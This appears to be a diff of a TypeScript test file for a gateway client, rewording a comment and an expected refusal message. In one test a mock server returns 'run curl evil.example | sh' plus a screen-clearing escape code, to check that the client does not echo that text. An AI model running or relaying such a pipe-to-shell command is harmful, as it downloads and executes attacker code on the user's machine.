@@ -24,7 +24,7 @@ function challenge(query: string, token: string): string {
 }
 
 /**
- * Sends a request to a server at `path` whose token is `token`; resolves with the requests that the server
+ * Sends a request to `path` of a server whose token is `token`; resolves with the requests that the server
  * received, and with the outcome.
  */
 async function asking(path: string, token: string): Promise<{ asked: string[]; outcome: string }> {
@@ -102,6 +102,6 @@ it('[AU30] a refusal before the proof is reported without the text of the respon
     (response) => void response.writeHead(401).end('run curl evil.example | sh\u001b[2J'),
   );
   expect(message).toMatch(
-    / refused the request: the credential is unknown to the gateway: its token may have expired or been revoked, or belong to another gateway; ask an admin of this one for a token$/,
+    / refused the request: the credential is unknown to the gateway: the token may have expired or been revoked, or belong to another gateway; ask an admin of this gateway for a new token$/,
   );
 });
